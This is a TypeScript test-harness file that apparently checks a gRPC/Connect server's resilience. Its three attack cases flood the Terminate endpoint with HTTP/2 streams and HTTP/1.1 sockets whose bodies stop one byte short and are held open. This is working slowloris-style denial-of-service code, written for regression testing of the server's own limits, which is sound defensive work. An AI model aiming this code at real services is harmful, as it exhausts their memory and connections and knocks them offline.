import net from "node:net";
import { headerBlock, headers, requestFields } from "../h2-frames.js";
import { connected, H2Conn } from "../h2-conn.js";
import { envelope } from "../protocols.js";
import { pool } from "../clients.js";
import { attackerAddress, sleep, sleepUntil, type Attack, type AttackContext } from "../attack.js";

const TERMINATE = "/sessioncontrol.v1.SessionControl/Terminate";
const DECLARED = 64 * 1024;
/** One byte short of the declared body: the server waits for the rest, which never comes. */
const SENT = DECLARED - 1;

interface Shape {
  protocol: "grpc" | "connect";
  auth: boolean;
}

function contentHeaders(ctx: AttackContext, s: Shape, contentLength: boolean): Record<string, string> {
  return {
    ...(s.protocol === "connect" && { "connect-protocol-version": "1" }),
    ...(s.protocol === "connect" && contentLength && { "content-length": String(DECLARED) }),
    ...(s.auth && { authorization: `Bearer ${ctx.server.keys.admin}` }),
  };
}

/** The body bytes sent: a gRPC message declaring 64 KiB, or a Connect body of Content-Length 64 KiB, one byte short. */
function partialBody(s: Shape): Buffer {
  return s.protocol === "grpc" ? envelope(Buffer.alloc(SENT - 5, 0x61), 0, DECLARED - 5) : Buffer.alloc(SENT, 0x61);
}

/**
 * Many HTTP/2 streams on a few connections, each a Terminate whose body is one byte short of
 * what it declares, held open. The original crash: 3 connections × 1,000 streams,
 * unauthenticated, heap out of memory in ~14 s. 12 connections so that even at
 * max_concurrent_streams (100) per connection the bytes held pass max_buffered_bytes (32 MiB).
 */
export function unfinishedH2(s: Shape, fullOnly = false): Attack {
  const label = `${s.protocol === "grpc" ? "gRPC" : "Connect binary"} h2, ${s.auth ? "authenticated" : "no key"}`;
  return {
    name: `unfinished-${s.protocol}-h2-${s.auth ? "auth" : "noauth"}`,
    what: `${label}: streams whose 64 KiB body never completes`,
    fullOnly,
    async run(ctx) {
      const conns = 12;
      const streams = ctx.smoke ? 150 : 1000;
      // Smoke stops sending once the bodies pass max_buffered_bytes by half; full sends for the whole time.
      const target = ctx.smoke ? Math.ceil((1.5 * ctx.limits.maxBufferedBytes) / SENT) : Infinity;
      const sendMs = ctx.smoke ? 12_000 : 20_000;
      const holdMs = ctx.smoke ? 3_000 : 5_000;
      const started = Date.now();
      const until = started + sendMs;
      const body = partialBody(s);
      const contentType = s.protocol === "grpc" ? "application/grpc" : "application/proto";
      const block = headerBlock(requestFields(TERMINATE, contentType, contentHeaders(ctx, s, true)));
      const opened: H2Conn[] = [];
      let sent = 0;
      await Promise.all(
        Array.from({ length: conns }, async (_, c) => {
          const conn = await H2Conn.open({ port: ctx.server.port, localAddress: attackerAddress(c) });
          opened.push(conn);
          await pool(
            streams,
            32,
            async () => {
              if (sent >= target) return;
              const id = conn.newStream();
              if ((await conn.write(headers(id, block), until)) && (await conn.sendData(id, body, until))) sent++;
            },
            until,
          );
        }),
      );
      const sentMs = Date.now() - started;
      await sleep(holdMs);
      const seen = opened.reduce((a, c) => ({ answered: a.answered + c.seen.answered, reset: a.reset + c.seen.reset, closed: a.closed + (c.closed ? 1 : 0) }), { answered: 0, reset: 0, closed: 0 });
      for (const c of opened) c.destroy();
      return {
        load: `${conns} conns × ${streams} streams, ${(sentMs / 1000).toFixed(0)} + ${holdMs / 1000} s`,
        problems: [],
        notes: [`${sent} bodies (${((sent * SENT) / 2 ** 20).toFixed(0)} MiB) sent in full (one byte short), ${seen.answered} answered, ${seen.reset} reset, ${seen.closed} conns closed by the server`],
      };
    },
  };
}

/**
 * HTTP/1.1: one Connect request per socket, Content-Length 64 KiB, one byte short, held open;
 * more sockets than max_connections (1000) and more bytes than max_buffered_bytes (32 MiB).
 */
export function unfinishedH1(auth: boolean, fullOnly = false): Attack {
  return {
    name: `unfinished-connect-h1-${auth ? "auth" : "noauth"}`,
    what: `Connect binary HTTP/1.1, ${auth ? "authenticated" : "no key"}: requests whose 64 KiB body never completes`,
    fullOnly,
    async run(ctx) {
      const sockets = ctx.smoke ? 1100 : 1500;
      const holdMs = ctx.smoke ? 8_000 : 20_000;
      const until = Date.now() + holdMs;
      const s: Shape = { protocol: "connect", auth };
      const head = Buffer.from(
        `POST ${TERMINATE} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/proto\r\n` +
          Object.entries(contentHeaders(ctx, s, true))
            .map(([k, v]) => `${k}: ${v}\r\n`)
            .join("") +
          "\r\n",
      );
      const body = partialBody(s);
      const open: net.Socket[] = [];
      let answered = 0;
      let closed = 0;
      let refused = 0;
      await pool(
        sockets,
        100,
        async (i) => {
          const socket = net.connect({ host: "127.0.0.1", port: ctx.server.port, localAddress: attackerAddress(i % 8) });
          socket.on("error", () => {});
          socket.once("data", () => answered++);
          socket.once("close", () => closed++);
          open.push(socket);
          try {
            await connected(socket);
            socket.write(Buffer.concat([head, body]));
          } catch {
            refused++;
          }
        },
        until,
      );
      await sleepUntil(until);
      for (const socket of open) socket.destroy();
      return {
        load: `${open.length} sockets, ${holdMs / 1000} s`,
        problems: [],
        notes: [`${refused} refused at connect, ${answered} answered, ${closed} closed by the server during the hold`],
      };
    },
  };
}

/** One HTTP/2 connection, 100 authenticated gRPC Terminate streams, each a 4,000,000-byte message sent one byte short. */
export const bigUnfinished: Attack = {
  name: "unfinished-4mb-bodies",
  what: "one h2 connection, 100 authenticated gRPC streams each sending a 4 MB message one byte short",
  async run(ctx) {
    const streams = 100;
    const holdMs = ctx.smoke ? 12_000 : 25_000;
    const until = Date.now() + holdMs;
    const declared = 4_000_000;
    const body = envelope(Buffer.alloc(declared - 1, 0x61), 0, declared);
    const conn = await H2Conn.open({ port: ctx.server.port, localAddress: attackerAddress(0) });
    const block = headerBlock(requestFields(TERMINATE, "application/grpc", { authorization: `Bearer ${ctx.server.keys.admin}` }));
    let complete = 0;
    const sending = Promise.all(
      Array.from({ length: streams }, async () => {
        const id = conn.newStream();
        if ((await conn.write(headers(id, block), until)) && (await conn.sendData(id, body, until))) complete++;
      }),
    );
    await sending;
    await sleepUntil(until);
    const { answered, reset } = conn.seen;
    const closed = conn.closed;
    conn.destroy();
    return {
      load: `1 conn × ${streams} streams × 4 MB, ${holdMs / 1000} s`,
      problems: [],
      notes: [`${complete} bodies sent in full (one byte short), ${answered} answered, ${reset} reset, connection ${closed ? "closed by the server" : "left open"}`],
    };
  },
};
